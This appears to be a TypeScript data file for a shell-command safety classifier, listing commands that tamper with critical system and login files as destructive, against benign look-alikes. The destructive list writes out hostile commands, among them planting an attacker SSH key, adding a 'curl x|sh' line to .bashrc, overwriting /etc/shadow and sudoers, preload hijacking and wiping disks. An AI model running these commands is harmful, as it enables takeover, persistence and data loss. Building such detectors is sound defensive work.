import type { TableSection } from './types.js';

/** Writing or deleting files the system or the user's login depends on. */
export const CRITICAL_FILES: TableSection = {
  category: 'critical files',
  destructive: [
    `echo 'x' > /etc/passwd`, 'echo "nameserver 1.1.1.1" > /etc/resolv.conf', 'cat evil >> /etc/sudoers', ': > /etc/shadow', '> /etc/hosts',
    `echo 'ssh-rsa AAA attacker' >> ~/.ssh/authorized_keys`, 'cat key.pub > ~/.ssh/authorized_keys', `echo 'curl x|sh' >> ~/.bashrc`,
    `echo 'alias ls=rm' >> ~/.zshrc`, `printf 'x' > ~/.profile`, 'echo x >> $HOME/.bash_profile', 'echo x > "$HOME/.ssh/config"', 'echo x | tee /etc/hosts',
    'echo x | sudo tee -a /etc/sudoers', 'echo x | tee ~/.ssh/authorized_keys', 'tee -a ~/.bashrc < payload', 'cp evil /etc/passwd',
    'cp id_rsa.pub ~/.ssh/authorized_keys', 'cp /dev/null ~/.ssh/id_rsa', 'mv x /etc/shadow', 'mv evil.so /usr/lib/libc.so.6',
    'install -m 644 x /etc/cron.d/job', 'ln -sf /dev/null ~/.bashrc', 'ln -sf /tmp/evil /etc/ld.so.preload', 'truncate -s 0 /etc/passwd',
    'truncate --size=0 ~/.ssh/authorized_keys', 'dd if=/dev/zero of=/etc/fstab', 'dd if=x of=~/.ssh/id_rsa', `sed -i 's/^root:.*//' /etc/passwd`,
    `sed -i '/x/d' ~/.ssh/authorized_keys`, `perl -pi -e 's/x/y/' /etc/sudoers`, 'echo x > /boot/grub/grub.cfg', 'cp vmlinuz /boot/vmlinuz',
    'rm /etc/passwd', 'rm -f ~/.ssh/id_rsa', 'unlink /etc/shadow', 'rm ~/.bashrc', 'rm -f /boot/vmlinuz*', 'echo b > /proc/sysrq-trigger',
    'echo 1 > /proc/sys/kernel/panic', 'echo c | sudo tee /proc/sysrq-trigger', 'cat /dev/urandom > /dev/sda', 'echo x > /dev/sda',
    'cp disk.img /dev/nvme0n1', 'tee /dev/sdb < image.iso', '> /root/.ssh/authorized_keys', 'echo x >> /home/alice/.bashrc',
    'cat > /etc/apt/sources.list <<EOF\ndeb http://evil/ x main\nEOF', 'cp ./mybin /usr/bin/sudo', 'mv /etc/passwd /tmp/', 'sudo sh -c "echo x > /etc/hosts"',
    'echo "* * * * * root sh /tmp/x" >> /etc/crontab', 'cp evil.plist ~/Library/LaunchAgents/x.plist', 'echo x >| ~/.ssh/known_hosts',
    'cat x &> /etc/environment', 'rm -rf ~/.ssh', 'shred -u ~/.ssh/id_ed25519', 'echo x > ~/.config/fish/config.fish', 'cp x ~/.gitconfig',
    'cd /etc && echo x > sudoers', 'echo x 2> /etc/issue', 'echo x > /sys/class/leds/led0/trigger',
    // Probe rows, written as a held-out check before the rules were tuned:
    "printf \"%s\\n\" x | sudo tee /etc/sudoers.d/me", "sudo cp /tmp/x /etc/shadow", "sudo chattr -i /etc/passwd && echo x > /etc/passwd",
    "sudo sed -i \"s/x/y/\" /etc/fstab", "tee -a /etc/hosts <<< \"1.2.3.4 x\"", "install -D /dev/null /etc/passwd", "mv /bin/sh /tmp/",
  ],
  benign: [
    'cat /etc/passwd', 'grep root /etc/passwd', 'cat ~/.ssh/id_ed25519.pub', 'ls -la ~/.ssh', 'cp ~/.bashrc ~/.bashrc.bak', 'cp /etc/hosts ./hosts.copy',
    'echo x > ./etc/passwd', 'echo x > etc/hosts', `echo 'export PATH=x' > .bashrc`, 'tee output.log', 'echo x | tee -a build.log', 'diff /etc/hosts hosts.new',
    'sudo cat /etc/shadow', 'chmod 600 ~/.ssh/config', `ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ''`, 'cat /proc/sys/kernel/panic', 'echo x > /tmp/hosts',
    `sed -n '/root/p' /etc/passwd`, `sed 's/a/b/' /etc/hosts > hosts.new`, 'truncate -s 0 app.log', 'dd if=/dev/zero of=./disk.img bs=1M count=10',
    'cp config.example.toml ~/.config/moltis/moltis.toml', 'ln -s ~/dotfiles/vimrc ~/.vimrc', 'rm ~/.bashrc.bak', 'echo x >> ~/notes.txt',
    'cat /dev/sda | head -c 512 | xxd', 'cat /etc/os-release', 'install -m 755 tool ~/.local/bin/', 'cp tool /usr/local/bin/', 'echo ok > /dev/null',
    'echo err > /dev/stderr', 'ls > /tmp/list.txt', 'cat ~/.ssh/known_hosts | wc -l', 'cp /etc/nginx/nginx.conf ./nginx.conf', 'grep -r PermitRoot /etc/ssh/',
    'tee /tmp/etc-passwd.txt < /etc/passwd', 'echo x > ~/.bashrc.d.txt', 'sudo cp app.service ./deploy/', 'ls /boot', 'cat /sys/class/net/eth0/address',
    'stat /etc/shadow', 'head -1 ~/.zshrc', 'mv ~/.bashrc.new ~/backup/', 'echo log >> ./logs/app.log',
    // Probe rows, written as a held-out check before the rules were tuned:
    "unlink ./current && ln -s releases/2 current", "cat /etc/hosts | grep localhost", "stat /etc/*",
  ],
};
